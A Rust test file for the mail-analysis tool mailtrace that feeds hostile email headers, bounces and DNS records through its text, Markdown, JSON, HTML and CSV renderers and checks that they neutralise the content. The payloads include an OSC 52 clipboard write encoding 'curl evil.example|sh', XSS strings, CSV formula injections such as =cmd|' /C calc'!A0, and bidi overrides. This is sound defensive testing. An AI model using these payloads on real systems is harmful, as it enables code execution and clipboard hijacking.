//! Output safety: hostile messages through every renderer.
//!
//! A message is written by an attacker; mailtrace's output is read by people (terminals,
//! browsers, ticket systems rendering Markdown, spreadsheets opening CSV) and by programs
//! (JSON, JSON Lines). Each message here is built in the test and carries terminal escapes
//! (ESC[2J, OSC 8 hyperlinks, OSC 52 clipboard writes, BEL, backspaces, CR overwrites, C1
//! controls), HTML/SVG/attribute breakouts, spreadsheet formulas, JSON-breaking content (NUL,
//! invalid UTF-8, U+2028/2029, very long strings), bidi overrides and zero-width characters,
//! and Markdown injection, in the Subject, From, Received, Authentication-Results, a bounce body
//! and the returned original. Every renderer must keep all of it inert and still show it.
//!
//! The checks here are written from the outside (their own lists of dangerous characters and
//! tags), not with the escaping functions under test.

mod common;

use std::path::PathBuf;

use mailtrace::auth::dns::{Dns, RecordType, StaticResolver};
use mailtrace::batch::html::HtmlWriter;
use mailtrace::batch::write::{CsvWriter, JsonlWriter, TextWriter, Writer};
use mailtrace::batch::{Record, Totals};
use mailtrace::domain::{self, DomainOptions};
use mailtrace::render::{self, TextStyle, Width};
use mailtrace::{Report, Source};

// ---------------------------------------------------------------------------------------------
// The payloads

/// Clear the screen.
const CLEAR: &str = "\x1b[2J";
/// An OSC 8 hyperlink whose text hides its target.
const OSC8: &str = "\x1b]8;;https://evil.example/\x07click here\x1b]8;;\x07";
/// An OSC 52 clipboard write (base64 of `curl evil.example|sh`).
const OSC52: &str = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x07";
/// Bell, backspaces over text, and a carriage return that overwrites the line.
const OVERWRITE: &str = "\x07invoice\x08\x08\x08\x08\x08\x08\x07\rSAFE";
/// C1 CSI (the 8-bit form of ESC [), and NEL.
const C1: &str = "\u{9b}31m\u{85}";
/// Element, SVG and attribute breakouts.
const HTML: &str = "<script>alert(1)</script><svg onload=alert(2)>\"><img src=x onerror=alert(3)>' onmouseover='alert(4)</title></style></textarea>";
/// Bidi override, isolate, zero-width space and joiner, BOM.
const BIDI: &str = "pay\u{202E}fdp.exe\u{2066}x\u{2069}\u{200B}\u{200D}\u{FEFF}";
/// Markdown: a link, an image, HTML, a code span, a fence and table pipes.
const MARKDOWN: &str = "[click](https://evil.example) ![img](https://evil.example/i.png) <b>bold</b> `code` ``` | x | y |";
/// Line and paragraph separators, NUL.
const SEPARATORS: &str = "a\u{2028}b\u{2029}c\u{0}d";

/// Everything above in one string.
fn everything() -> String {
    [
        CLEAR, OSC8, OSC52, OVERWRITE, C1, HTML, BIDI, MARKDOWN, SEPARATORS,
    ]
    .join(" ")
}

/// RFC 2047 encoded word (base64, UTF-8): carries any character into a header.
fn encoded_word(text: &str) -> String {
    format!("=?utf-8?b?{}?=", base64(text.as_bytes()))
}

fn base64(data: &[u8]) -> String {
    const ALPHABET: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::new();
    for chunk in data.chunks(3) {
        let b = [
            chunk[0],
            chunk.get(1).copied().unwrap_or(0),
            chunk.get(2).copied().unwrap_or(0),
        ];
        let n = (u32::from(b[0]) << 16) | (u32::from(b[1]) << 8) | u32::from(b[2]);
        for i in 0..4 {
            if i <= chunk.len() {
                out.push(char::from(ALPHABET[(n >> (18 - 6 * i)) as usize & 63]));
            } else {
                out.push('=');
            }
        }
    }
    out
}

/// The message with hostile content in every header a renderer shows, raw and encoded.
fn hostile_headers() -> Vec<u8> {
    let mut m = String::new();
    m.push_str("Return-Path: <=cmd|' /C calc'!A0@evil.example>\n");
    m.push_str(&format!(
        "Received: from mx.example.org (mx.example.org [10.0.0.5]) by imap.example.org{CLEAR} with LMTP{OSC52} id x{BIDI}; Wed, 12 Mar 2025 09:02:14 +0000\n"
    ));
    m.push_str(&format!(
        "Authentication-Results: mx.example.org{OSC8};\n\tdkim=pass ({HTML} {MARKDOWN}) header.d=evil.example header.s=s1;\n\tspf=pass ({OVERWRITE}{C1}) smtp.mailfrom=evil.example;\n\tdmarc=pass ({BIDI}) header.from=evil.example\n"
    ));
    m.push_str(&format!(
        "Received: from evil.example ({HTML} [203.0.113.9]) (helo=x{OSC8}) by mx.example.org{OVERWRITE} (Postfix{C1}) with ESMTP{MARKDOWN} id 4ZCNq84Jh9zDgyt7; Wed, 12 Mar 2025 09:02:13 +0000\n"
    ));
    m.push_str(&format!(
        "Received: from [192.168.1.2] (helo={HTML}) by evil.example ({CLEAR}{BIDI}) with ESMTPSA; Wed, 12 Mar 2025 09:02:12 +0000\n"
    ));
    m.push_str(
        "DKIM-Signature: v=1; a=rsa-sha256; c=relaxed/relaxed; d=evil.example; s=s1\x1b[2J<b>;\n\th=from:subject; bh=AAAA; b=AAAA\n",
    );
    m.push_str(&format!(
        "From: {} <ceo@evil.example>\n",
        encoded_word(&format!("+SUM(1+1)*cmd {}", everything()))
    ));
    m.push_str("Reply-To: attacker@evil.example\n");
    m.push_str(&format!(
        "To: {} <victim@example.org>\n",
        encoded_word(&everything())
    ));
    m.push_str(&format!(
        "Subject: {}\n",
        encoded_word(&format!(
            "=HYPERLINK(\"https://evil.example\",\"x\") {}",
            everything()
        ))
    ));
    m.push_str("Date: Wed, 12 Mar 2025 10:02:10 +0100\n");
    m.push_str("Message-ID: <@evil.example\x1b[2J<svg/onload=alert(5)>>\n");
    m.push_str("MIME-Version: 1.0\nContent-Type: text/plain; charset=utf-8\n\n");
    m.push_str(&format!("Hello {}\n", everything()));
    m.into_bytes()
}

/// A bounce whose delivery report and returned original carry the payloads: the body's way
/// into the report.
fn hostile_bounce() -> Vec<u8> {
    let original = format!(
        "Received: from evil.example (evil.example [203.0.113.9]) by mx.example.net{CLEAR} with ESMTP; Tue, 11 Mar 2025 09:15:40 +0000\nFrom: {}\nTo: kim@example.edu\nSubject: {}\nDate: Tue, 11 Mar 2025 09:15:40 +0000\nMessage-ID: <orig@evil.example>\n",
        encoded_word(&format!("-2+3 {}", everything())),
        encoded_word(&format!("@SUM(1) {}", everything()))
    );
    format!(
        "Return-Path: <>
Received: from mx1.example.edu (mx1.example.edu [192.0.2.35])
\tby mx.example.net (Postfix) with ESMTPS id 4Z2Q9C0d8Vz7pLm; Tue, 11 Mar 2025 09:15:50 +0000 (UTC)
Date: Tue, 11 Mar 2025 09:15:49 +0000 (UTC)
From: MAILER-DAEMON@mx1.example.edu (Mail Delivery System)
Subject: Undelivered Mail Returned to Sender
To: ann@example.net
Auto-Submitted: auto-replied
MIME-Version: 1.0
Content-Type: multipart/report; report-type=delivery-status; boundary=\"BOUNDARY\"
Message-Id: <bounce@mx1.example.edu>

--BOUNDARY
Content-Type: text/plain; charset=utf-8

This is the mail system at host mx1.example.edu.

<kimm{CLEAR}@example.edu>: host mailstore.example.edu[10.10.0.12] said: 550 5.1.1
    User unknown {HTML} {OSC8} (in reply to RCPT TO command)

--BOUNDARY
Content-Type: message/delivery-status

Reporting-MTA: dns; mx1.example.edu

Final-Recipient: rfc822; kimm{OSC52}@example.edu
Action: failed
Status: 5.1.1
Remote-MTA: dns; mailstore.example.edu{BIDI}<script>x</script>
Diagnostic-Code: smtp; 550 5.1.1 {everything} Recipient address rejected {OVERWRITE}{C1}

--BOUNDARY
Content-Type: text/rfc822-headers

{original}
--BOUNDARY--
",
        everything = everything(),
    )
    .into_bytes()
}

/// Invalid UTF-8 (a CESU-8 lone surrogate, stray continuation bytes, 0xFF) in raw headers,
/// NUL, U+2028/2029 and a 100 kB Subject.
fn hostile_bytes() -> Vec<u8> {
    let mut m = Vec::new();
    m.extend_from_slice(
        b"Received: from a.example (a.example [192.0.2.1]) by mx\xed\xa0\x80.example.org with ESMTP; Wed, 12 Mar 2025 09:02:14 +0000\n",
    );
    m.extend_from_slice(b"From: Lone \xed\xa0\x80 Surrogate \xff\xfe\x80 <a@example.com>\n");
    m.extend_from_slice(b"To: b@example.org\n");
    m.extend_from_slice(b"Subject: bad \xc3\x28 ");
    m.extend_from_slice("\u{2028}x\u{2029}".as_bytes());
    m.extend_from_slice("<script>".repeat(12_500).as_bytes());
    m.extend_from_slice(
        b"\nDate: Wed, 12 Mar 2025 10:02:10 +0100\nMessage-ID: <x@example.com>\n\nbody\n",
    );
    m
}

/// Messages whose CSV text columns start like a formula.
fn formula_messages() -> Vec<Vec<u8>> {
    let starts = ["=", "+", "-", "@", "\t=", "\r="];
    starts
        .iter()
        .map(|start| {
            let cell = format!("{start}HYPERLINK(\"https://evil.example\",\"x\")");
            format!(
                "Return-Path: <x@example.com>\nReceived: from a.example (a.example [192.0.2.1]) by mx.example.org with ESMTP; Wed, 12 Mar 2025 09:02:14 +0000\nFrom: {} <a@example.com>\nTo: {} <b@example.org>\nSubject: {}\nDate: {}\nMessage-ID: {}\n\nbody\n",
                encoded_word(&cell),
                encoded_word(&cell),
                encoded_word(&cell),
                encoded_word(&cell),
                encoded_word(&cell),
            )
            .into_bytes()
        })
        .collect()
}

fn analyze(name: &str, bytes: Vec<u8>) -> (Report, Source) {
    let source = Source::from_bytes(name, bytes).expect("a source");
    let report = mailtrace::analyze(&source, &common::options()).expect("a report");
    (report, source)
}

/// The hostile messages, analysed: (report, source) each.
fn hostile() -> Vec<(Report, Source)> {
    vec![
        analyze("evil\x1b[2J<script>|`[x](y)\u{202E}.eml", hostile_headers()),
        analyze("bounce.eml", hostile_bounce()),
        analyze("bytes.eml", hostile_bytes()),
    ]
}

// ---------------------------------------------------------------------------------------------
// Checks written from the outside

/// Characters that must never reach a terminal or a Markdown reader raw: C0 controls but the
/// newline, DEL, C1 controls, bidi embeddings/overrides/isolates and marks, zero-width
/// characters and the BOM.
fn dangerous_for_terminal(c: char) -> bool {
    (c < ' ' && c != '\n')
        || ('\u{7f}'..='\u{9f}').contains(&c)
        || matches!(c,
            '\u{200B}'..='\u{200F}' | '\u{202A}'..='\u{202E}' | '\u{2060}'..='\u{2064}'
            | '\u{2066}'..='\u{2069}' | '\u{FEFF}' | '\u{061C}')
}

/// Panics with the place when `out` holds a dangerous character; with `sgr`, the renderer's own
/// colour sequences (`ESC [ digits ; m`) are allowed and nothing else starting with ESC.
fn assert_terminal_safe(what: &str, out: &str, sgr: bool) {
    let mut chars = out.char_indices();
    while let Some((i, c)) = chars.next() {
        if sgr && c == '\x1b' {
            let rest = &out[i + 1..];
            let body: String = rest
                .chars()
                .skip(1)
                .take_while(|c| c.is_ascii_digit() || *c == ';')
                .collect();
            let ok = rest.starts_with('[') && rest[1 + body.len()..].starts_with('m');
            assert!(
                ok,
                "{what}: an escape sequence that is not colour at byte {i}: {:?}",
                &out[i..out.floor_char_boundary((i + 40).min(out.len()))]
            );
            for _ in 0..body.len() + 2 {
                chars.next();
            }
            continue;
        }
        if dangerous_for_terminal(c) {
            let start = out.floor_char_boundary(i.saturating_sub(60));
            let end = out.ceil_char_boundary((i + 20).min(out.len()));
            panic!(
                "{what}: raw U+{:04X} at byte {i}: {:?}",
                u32::from(c),
                &out[start..end]
            );
        }
    }
}

/// `needle` occurs in `out`, or the failure says which renderer dropped it.
fn assert_shows(what: &str, out: &str, needle: &str) {
    assert!(
        out.contains(needle),
        "{what}: {needle:?} is not shown\n{}",
        &out[..out.floor_char_boundary(6_000)]
    );
}

/// The strings of a JSON value (and its keys), recursively.
fn strings(v: &serde_json::Value, out: &mut Vec<String>) {
    match v {
        serde_json::Value::String(s) => out.push(s.clone()),
        serde_json::Value::Array(a) => a.iter().for_each(|v| strings(v, out)),
        serde_json::Value::Object(o) => {
            for (k, v) in o {
                out.push(k.clone());
                strings(v, out);
            }
        }
        _ => {}
    }
}

/// Every string the report holds.
fn kept<T: serde::Serialize>(report: &T) -> String {
    let mut all = Vec::new();
    strings(
        &serde_json::to_value(report).expect("a report serialises"),
        &mut all,
    );
    all.join("\n")
}

/// Positions of `wanted` in `line` not escaped by a backslash.
fn unescaped(line: &str, wanted: char) -> Vec<usize> {
    let bytes = line.as_bytes();
    line.char_indices()
        .filter(|&(i, c)| {
            c == wanted && bytes[..i].iter().rev().take_while(|&&b| b == b'\\').count() % 2 == 0
        })
        .map(|(i, _)| i)
        .collect()
}

/// Markdown: every `<`, `[` and `]` from content is escaped, no code fence, and every table row
/// has exactly as many cell separators as its header.
fn assert_markdown_structure(what: &str, out: &str) {
    let mut columns: Option<usize> = None;
    for line in out.lines() {
        let body = line.trim_start_matches("> ");
        for c in ['<', '[', ']'] {
            assert!(
                unescaped(body, c).is_empty(),
                "{what}: unescaped {c:?} in {body:?}"
            );
        }
        assert!(!body.contains("```"), "{what}: a fence in {body:?}");
        if body.starts_with('|') {
            let pipes = unescaped(body, '|').len();
            match columns {
                None => columns = Some(pipes),
                Some(n) => assert_eq!(pipes, n, "{what}: a row that breaks its table: {body:?}"),
            }
        } else {
            columns = None;
        }
    }
}

/// HTML: no script, no element or attribute from content, no URL with a scheme, one stylesheet;
/// no raw control or invisible character.
fn assert_html_safe(what: &str, out: &str) {
    let lower = out.to_ascii_lowercase();
    assert!(!lower.contains("<script"), "{what}: a script element");
    for tag in [
        "<img",
        "<iframe",
        "<object",
        "<embed",
        "<textarea",
        "<form",
        "<input",
        "<base",
        "<link",
        "<b>bold",
        "<svg onload",
        "<svg/onload",
    ] {
        assert!(!lower.contains(tag), "{what}: a {tag} element");
    }
    assert!(
        lower.matches("<style").count() <= 1,
        "{what}: more than one stylesheet"
    );
    // every tag: no on* attribute, no URL with a scheme
    let mut rest = out;
    while let Some(start) = rest.find('<') {
        let after = &rest[start + 1..];
        let end = after.find('>').unwrap_or(after.len());
        let tag = &after[..end];
        if tag.starts_with(|c: char| c.is_ascii_alphabetic()) {
            for attr in tag.split_whitespace().skip(1) {
                let name = attr.split('=').next().unwrap_or("").to_ascii_lowercase();
                assert!(
                    !name.starts_with("on"),
                    "{what}: an event handler in <{tag}>"
                );
                if matches!(name.as_str(), "href" | "src" | "xlink:href" | "action") {
                    let value = attr[name.len()..]
                        .trim_start_matches('=')
                        .trim_matches(['"', '\'']);
                    let head = value.split(['/', '?', '#']).next().unwrap_or("");
                    assert!(
                        !head.contains(':'),
                        "{what}: a URL with a scheme in <{tag}>"
                    );
                }
            }
        }
        rest = &after[end..];
    }
    for (i, c) in out.char_indices() {
        let bad = (c < ' ' && !matches!(c, '\n' | '\t'))
            || ('\u{7f}'..='\u{9f}').contains(&c)
            || matches!(c,
                '\u{200B}'..='\u{200F}' | '\u{202A}'..='\u{202E}' | '\u{2060}'..='\u{2064}'
                | '\u{2066}'..='\u{2069}' | '\u{FEFF}' | '\u{2028}' | '\u{2029}');
        if bad {
            let start = out.floor_char_boundary(i.saturating_sub(80));
            panic!(
                "{what}: raw U+{:04X} at byte {i}: {:?}",
                u32::from(c),
                &out[start..out.ceil_char_boundary((i + 10).min(out.len()))]
            );
        }
    }
}

// ---------------------------------------------------------------------------------------------
// The reports hold the payloads (else the renderer tests below would prove nothing)

#[test]
fn the_payloads_reach_the_reports() {
    let reports = hostile();
    let headers = kept(&reports[0].0);
    for payload in [
        CLEAR, OSC8, OSC52, OVERWRITE, C1, HTML, BIDI, MARKDOWN, SEPARATORS,
    ] {
        assert!(headers.contains(payload), "the report lost {payload:?}");
    }
    let subject = reports[0].0.message.subject.as_deref().unwrap_or_default();
    assert!(subject.starts_with("=HYPERLINK("), "{subject:?}");
    assert!(subject.contains(&everything()), "{subject:?}");
    let bounce = &reports[1].0;
    assert!(!bounce.reports.is_empty(), "the bounce is read as one");
    assert!(bounce.original.is_some(), "its original is analysed");
    let bounce_strings = kept(bounce);
    for payload in [CLEAR, OSC8, OSC52, HTML, BIDI, MARKDOWN] {
        assert!(
            bounce_strings.contains(payload),
            "the bounce lost {payload:?}"
        );
    }
    let bytes = &reports[2].0;
    let subject = bytes.message.subject.as_deref().unwrap_or_default();
    assert!(
        subject.len() > 100_000,
        "the long Subject is kept: {}",
        subject.len()
    );
}

// ---------------------------------------------------------------------------------------------
// Text

#[test]
fn text_keeps_the_terminal_safe_and_shows_the_content() {
    for (report, _) in hostile() {
        for style in [
            TextStyle::default(),
            TextStyle {
                color: true,
                width: Width::Columns(100),
                explain: true,
            },
            TextStyle {
                color: true,
                ..TextStyle::default()
            },
        ] {
            let out = render::text::render(&report, &style);
            let what = format!("text {:?} {style:?}", report.source.name);
            assert_terminal_safe(&what, &out, style.color);
            if !style.color {
                assert!(!out.contains('\x1b'), "{what}: ESC without colour");
            }
            let hostile = report
                .message
                .subject
                .as_deref()
                .is_some_and(|s| s.contains(CLEAR));
            if hostile && style.width == Width::Unlimited {
                // escaped, still there: the escapes are shown as text
                assert_shows(&what, &out, "\\u{1b}[2J");
                assert_shows(&what, &out, "\\u{1b}]52;c;");
                assert_shows(&what, &out, "\\u{202e}");
                assert_shows(&what, &out, "\\u{9b}31m");
                assert_shows(&what, &out, "<script>alert(1)</script>");
                assert_shows(&what, &out, "[click](https://evil.example)");
            }
        }
    }
}

// ---------------------------------------------------------------------------------------------
// Markdown

#[test]
fn markdown_escapes_controls_and_markup_and_keeps_tables_whole() {
    for (report, _) in hostile() {
        for explain in [false, true] {
            let out = render::markdown::render(&report, explain);
            let what = format!("markdown {:?} explain={explain}", report.source.name);
            assert_terminal_safe(&what, &out, false);
            if !explain {
                // with --explain the teaching pages add the renderer's own <details>
                assert_markdown_structure(&what, &out);
            }
            if report
                .message
                .subject
                .as_deref()
                .is_some_and(|s| s.contains(CLEAR))
            {
                assert_shows(&what, &out, "\\\\u{1b}");
                assert_shows(&what, &out, "\\<script\\>alert(1)\\</script\\>");
                assert_shows(&what, &out, "\\[click\\](https://evil.example)");
                assert_shows(&what, &out, "\\`code\\`");
                assert_shows(&what, &out, "\\| x \\| y \\|");
            }
        }
    }
}

// ---------------------------------------------------------------------------------------------
// JSON

#[test]
fn json_parses_back_and_round_trips_every_string() {
    for (report, _) in hostile() {
        let out = render::json::render(&report);
        let what = format!("json {:?}", report.source.name);
        let parsed: serde_json::Value =
            serde_json::from_str(&out).unwrap_or_else(|e| panic!("{what}: {e}"));
        let direct = serde_json::to_value(&report).expect("serialises");
        assert_eq!(parsed, direct, "{what}: the text does not round-trip");
        assert_eq!(
            parsed["message"]["subject"].as_str(),
            report.message.subject.as_deref(),
            "{what}"
        );
        assert!(
            !out.chars().any(|c| c < ' ' && c != '\n'),
            "{what}: a raw control character"
        );
    }
    // invalid UTF-8 comes out as U+FFFD, never as bytes that are not UTF-8 (a Rust String
    // cannot hold a lone surrogate); NUL from an encoded word is kept (JSON writes \u0000)
    let reports = hostile();
    let from = reports[2].0.message.from.as_deref().unwrap_or_default();
    assert!(from.contains('\u{FFFD}'), "{from:?}");
    let out = render::json::render(&reports[0].0);
    assert!(out.contains("c\\u0000d"), "NUL written as \\u0000");
    // a raw NUL byte makes the input binary: a clean error, not a report
    let mut raw_nul = hostile_bytes();
    raw_nul.extend_from_slice(b"\x00");
    let _ = Source::from_bytes("nul.eml", raw_nul)
        .and_then(|s| mailtrace::analyze(&s, &common::options()));
}

// ---------------------------------------------------------------------------------------------
// HTML

#[test]
fn html_report_has_no_markup_from_the_message_and_shows_it_escaped() {
    for (report, source) in hostile() {
        let out = render::html::render(
            &report,
            &source,
            &render::html::HtmlOptions {
                explain: true,
                back_link: Some("javascript:alert(1)".into()),
            },
        );
        let what = format!("html {:?}", report.source.name);
        assert_html_safe(&what, &out);
        assert!(
            !out.contains("javascript:alert(1)\""),
            "{what}: the back link is refused"
        );
        if report
            .message
            .subject
            .as_deref()
            .is_some_and(|s| s.contains(CLEAR))
        {
            assert_shows(&what, &out, "&lt;script&gt;alert(1)&lt;/script&gt;");
            assert_shows(&what, &out, "&lt;svg onload=alert(2)&gt;");
            assert_shows(&what, &out, "&quot;&gt;&lt;img src=x onerror=alert(3)&gt;");
            assert_shows(&what, &out, "&#39; onmouseover=&#39;alert(4)");
            assert_shows(&what, &out, "⟨U+202E⟩");
            assert_shows(&what, &out, "⟨U+001B⟩[2J");
        }
    }
}

// ---------------------------------------------------------------------------------------------
// Batch writers

fn records() -> Vec<Record> {
    let mut records: Vec<Record> = hostile()
        .into_iter()
        .map(|(r, _)| r)
        .chain(
            formula_messages()
                .into_iter()
                .enumerate()
                .map(|(i, m)| analyze(&format!("f{i}.eml"), m).0),
        )
        .enumerate()
        .map(|(index, report)| Record {
            path: PathBuf::from(format!("=cmd|' /C calc'!A{index}\u{202E}\x1b[2J.eml")),
            index,
            offset: 0,
            flags: Some("S".into()),
            size: 1,
            result: Ok(report),
            json: None,
            page: None,
        })
        .collect();
    let n = records.len();
    records.push(Record {
        path: PathBuf::from("+evil\x07.mbox"),
        index: n,
        offset: 7,
        flags: None,
        size: 0,
        result: Err(format!(
            "=HYPERLINK(\"x\") cannot read {CLEAR}{OSC52}{HTML}"
        )),
        json: None,
        page: None,
    });
    records
}

fn write_all<W: Writer>(mut writer: W, records: &[Record]) {
    for r in records {
        writer.record(r).expect("write");
    }
    let mut totals = Totals::new();
    records.iter().for_each(|r| totals.add(r));
    writer.finish(Some(&totals.summary())).expect("finish");
}

/// Lines as Python's `str.splitlines()` (and other Unicode-aware readers) count them.
fn unicode_lines(text: &str) -> usize {
    text.split([
        '\n', '\r', '\u{b}', '\u{c}', '\u{1c}', '\u{1d}', '\u{1e}', '\u{85}', '\u{2028}',
        '\u{2029}',
    ])
    .filter(|l| !l.is_empty())
    .count()
}

#[test]
fn jsonl_one_parsable_line_per_record_whatever_the_line_splitter() {
    let records = records();
    let mut out = Vec::new();
    write_all(JsonlWriter::new(&mut out), &records);
    let text = String::from_utf8(out).expect("JSON Lines are UTF-8");
    let lines: Vec<&str> = text.lines().collect();
    assert_eq!(
        lines.len(),
        records.len() + 1,
        "a line per record, then the summary"
    );
    for (line, record) in lines.iter().zip(&records) {
        let v: serde_json::Value =
            serde_json::from_str(line).expect("a whole JSON object per line");
        match &record.result {
            Ok(report) => {
                assert_eq!(
                    v["message"]["subject"].as_str(),
                    report.message.subject.as_deref()
                );
                assert_eq!(
                    v["message"]["from"].as_str(),
                    report.message.from.as_deref()
                );
                assert_eq!(v, {
                    let mut direct = serde_json::to_value(report).expect("value");
                    direct["batch"] = v["batch"].clone();
                    direct
                });
            }
            Err(e) => assert_eq!(v["error"].as_str(), Some(e.as_str())),
        }
        assert_eq!(
            v["batch"]["file"].as_str(),
            Some(record.path.to_string_lossy().as_ref())
        );
    }
    assert_eq!(
        unicode_lines(&text),
        records.len() + 1,
        "a character some readers take for a line end (U+2028, U+2029, NEL) is written raw"
    );
}

#[test]
fn csv_parses_and_no_cell_is_a_formula() {
    let records = records();
    let mut out = Vec::new();
    write_all(CsvWriter::new(&mut out), &records);
    let mut reader = csv::ReaderBuilder::new()
        .flexible(false)
        .from_reader(out.as_slice());
    let header = reader.headers().expect("header").clone();
    let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.expect("a CSV row")).collect();
    assert_eq!(rows.len(), records.len(), "a row per record");
    let mut neutralised = 0;
    for (row, record) in rows.iter().zip(&records) {
        for (name, cell) in header.iter().zip(row.iter()) {
            let first = cell.chars().next();
            assert!(
                !matches!(first, Some('=' | '+' | '-' | '@' | '\t' | '\r')),
                "row {} column {name}: a formula cell {:?}",
                record.index,
                &cell[..cell.floor_char_boundary(60)]
            );
            if cell.starts_with('\'')
                && matches!(
                    cell[1..].chars().next(),
                    Some('=' | '+' | '-' | '@' | '\t' | '\r')
                )
            {
                neutralised += 1;
            }
        }
        // still there, neutralised rather than dropped
        if let Ok(report) = &record.result
            && let Some(subject) = &report.message.subject
        {
            let cell = &row[header.iter().position(|h| h == "subject").expect("subject")];
            assert!(
                cell == subject || cell.strip_prefix('\'') == Some(subject),
                "subject shown whole"
            );
        }
    }
    // the formula starts were met in several columns of several rows
    assert!(
        neutralised >= 6 * 3,
        "only {neutralised} formula-like cells met: the test lost its teeth"
    );
}

#[test]
fn text_table_keeps_the_terminal_safe() {
    let records = records();
    let mut out = Vec::new();
    write_all(TextWriter::new(&mut out), &records);
    let text = String::from_utf8(out).expect("UTF-8");
    assert_terminal_safe("batch text", &text, false);
    assert_shows("batch text", &text, "\\u{1b}[2J");
    assert_shows("batch text", &text, "\\u{202e}");
}

#[test]
fn batch_html_directory_has_no_markup_from_the_messages() {
    let dir = std::env::temp_dir().join(format!("mailtrace-hostile-html-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    let sources: Vec<Source> = hostile().into_iter().map(|(_, s)| s).collect();
    let mut records = records();
    for (record, source) in records.iter_mut().zip(&sources) {
        if let Ok(report) = &record.result {
            record.page = Some(render::html::render(
                report,
                source,
                &render::html::HtmlOptions {
                    back_link: Some("../messages.html".into()),
                    ..Default::default()
                },
            ));
        }
    }
    write_all(
        HtmlWriter::create(&dir).expect("an empty directory"),
        &records,
    );
    let mut pages = 0;
    for path in common::files_under(&dir) {
        let text = std::fs::read_to_string(&path).expect("UTF-8 pages");
        assert_html_safe(&path.display().to_string(), &text);
        pages += 1;
    }
    assert!(
        pages >= 2 + sources.len(),
        "index, list and a page per message: {pages}"
    );
    let list = std::fs::read_to_string(dir.join("messages.html")).expect("list");
    assert_shows(
        "messages.html",
        &list,
        "&lt;script&gt;alert(1)&lt;/script&gt;",
    );
    assert_shows("messages.html", &list, "=HYPERLINK(");
    assert_shows("messages.html", &list, "⟨U+202E⟩");
    assert_shows("messages.html", &list, "⟨U+001B⟩[2J");
    let _ = std::fs::remove_dir_all(&dir);
}

// ---------------------------------------------------------------------------------------------
// mailtrace domain, over hostile DNS answers

fn hostile_domain() -> domain::DomainReport {
    let d = "evil.example";
    let mut dns = StaticResolver::new();
    dns.add(d, RecordType::Mx, &format!("10 mx{CLEAR}.evil.example"));
    dns.add(
        d,
        RecordType::Txt,
        &format!(
            "v=spf1 include:_spf{OSC52}.evil.example a:{HTML} ip4:192.0.2.0/24 {MARKDOWN} ~all"
        ),
    );
    dns.add(
        &format!("_spf{OSC52}.evil.example"),
        RecordType::Txt,
        &format!("v=spf1 {OVERWRITE} -all"),
    );
    dns.add(
        &format!("_dmarc.{d}"),
        RecordType::Txt,
        &format!(
            "v=DMARC1; p=reject; rua=mailto:{BIDI}@evil.example; ruf=mailto:<script>@x; x={OSC8}"
        ),
    );
    dns.add(
        &format!("s1._domainkey.{d}"),
        RecordType::Txt,
        &format!("v=DKIM1; k=rsa{C1}; n={HTML}; p=MIGf{CLEAR}"),
    );
    dns.add(
        &format!("_mta-sts.{d}"),
        RecordType::Txt,
        &format!("v=STSv1; id={OSC8}{MARKDOWN}"),
    );
    dns.add(
        &format!("_smtp._tls.{d}"),
        RecordType::Txt,
        &format!("v=TLSRPTv1; rua=mailto:{OVERWRITE}@x"),
    );
    dns.add(
        &format!("default._bimi.{d}"),
        RecordType::Txt,
        &format!("v=BIMI1; l=javascript:alert(1){HTML}; a={BIDI}"),
    );
    let dns = Dns::new(Box::new(dns));
    domain::check(
        d,
        &DomainOptions {
            selectors: vec!["s1".into()],
            ..DomainOptions::default()
        },
        &dns,
        None,
    )
}

#[test]
fn domain_text_and_markdown_over_hostile_dns() {
    let report = hostile_domain();
    let kept = kept(&report);
    for payload in [CLEAR, OSC52, OSC8, HTML, BIDI, OVERWRITE] {
        assert!(kept.contains(payload), "the domain report lost {payload:?}");
    }
    let text = render::domain::text(&report);
    assert_terminal_safe("domain text", &text, false);
    assert_shows("domain text", &text, "\\u{1b}[2J");
    assert_shows("domain text", &text, "\\u{1b}]52;c;");
    assert_shows("domain text", &text, "\\u{202e}");
    assert_shows("domain text", &text, "<script>alert(1)</script>");
    let markdown = render::domain::markdown(&report);
    assert_terminal_safe("domain markdown", &markdown, false);
    for line in markdown.lines() {
        // outside code spans (the renderer's own, around records), markup is escaped; inside
        // them it is inert
        let ticks = unescaped(line, '`');
        assert!(
            ticks.len().is_multiple_of(2),
            "domain markdown: an unclosed code span in {line:?}"
        );
        let mut outside = String::new();
        let mut from = 0;
        for pair in ticks.chunks(2) {
            outside.push_str(&line[from..pair[0]]);
            from = pair[1] + 1;
        }
        outside.push_str(&line[from..]);
        for c in ['<', '['] {
            assert!(
                unescaped(&outside, c).is_empty(),
                "domain markdown: unescaped {c:?} in {line:?}"
            );
        }
    }
    assert_shows("domain markdown", &markdown, "u{1b}");
    let json = serde_json::to_string(&report).expect("json");
    let back: serde_json::Value = serde_json::from_str(&json).expect("parses");
    assert_eq!(back, serde_json::to_value(&report).expect("value"));
}
